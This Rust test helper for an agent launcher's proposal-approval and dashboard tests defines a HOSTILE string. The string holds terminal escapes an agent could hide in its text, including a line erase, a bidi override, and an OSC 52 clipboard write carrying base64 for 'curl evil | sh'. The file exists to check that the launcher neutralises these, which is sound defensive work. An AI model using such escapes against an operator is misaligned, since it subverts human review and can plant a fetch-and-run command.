//! A temporary manifest home with hand-written proposal files, shared by the approve/reject and
//! dashboard tests.
#![allow(dead_code, clippy::unwrap_used)] // Each test binary uses a part.

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

pub const BIN: &str = env!("CARGO_BIN_EXE_claude-bottle");

/// Terminal tricks an agent could put in any text it writes: erase the line, write the
/// operator's clipboard (OSC 52), return to the line start, reverse the text that follows.
pub const HOSTILE: &str = "\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\u{202e}";
/// [`HOSTILE`] as the launcher must show it.
pub const HOSTILE_SHOWN: &str = r"\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{d}\u{202e}";

/// Fails when `bytes` (a stream the operator's terminal would read) holds ESC, BEL, CR,
/// another C0 control but `\n` and `\t`, DEL, C1 or a bidi override.
pub fn assert_no_raw_controls(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let raw = text.chars().find(|c| {
        (c.is_control() && !matches!(c, '\n' | '\t')) || ('\u{202a}'..='\u{202e}').contains(c)
    });
    assert!(raw.is_none(), "{what} carries a raw {raw:?}:\n{text}");
}

pub struct Home {
    _tmp: tempfile::TempDir,
    pub root: PathBuf,
}

impl Home {
    pub fn new() -> Home {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("bottle-home");
        std::fs::create_dir_all(&root).unwrap();
        Home { _tmp: tmp, root }
    }

    /// Writes a proposal as the bundle would: `queue/<identity>/proposals/<id>.json`.
    pub fn propose(&self, identity: &str, id: &str, created: u64, request: serde_json::Value) {
        let dir = self.root.join("queue").join(identity).join("proposals");
        std::fs::create_dir_all(&dir).unwrap();
        let proposal = serde_json::json!({
            "id": id,
            "identity": identity,
            "created": created,
            "justification": format!("I need it for {id}"),
            "request": request,
        });
        std::fs::write(dir.join(format!("{id}.json")), proposal.to_string()).unwrap();
    }

    /// Writes `proposal` as it is (any JSON, any justification) to
    /// `queue/<identity>/proposals/<stem>.json`, as a hostile bundle could.
    pub fn propose_raw(&self, identity: &str, stem: &str, proposal: &serde_json::Value) {
        let dir = self.root.join("queue").join(identity).join("proposals");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("{stem}.json")), proposal.to_string()).unwrap();
    }

    pub fn decision(&self, identity: &str, id: &str) -> PathBuf {
        self.root
            .join("queue")
            .join(identity)
            .join("decisions")
            .join(format!("{id}.json"))
    }

    pub fn audit(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.root.join("audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    pub fn run(&self, args: &[&str], vars: &[(&str, &str)]) -> Output {
        let mut cmd = Command::new(BIN);
        cmd.args(args)
            .current_dir(self.root.parent().unwrap())
            .env_clear()
            .env("HOME", self.root.parent().unwrap())
            .env("CLAUDE_BOTTLE_HOME", &self.root)
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("USER", "alice")
            .stdin(Stdio::null());
        if let Ok(host) = std::env::var("DOCKER_HOST") {
            cmd.env("DOCKER_HOST", host);
        }
        cmd.envs(vars.iter().copied());
        cmd.output().unwrap()
    }
}
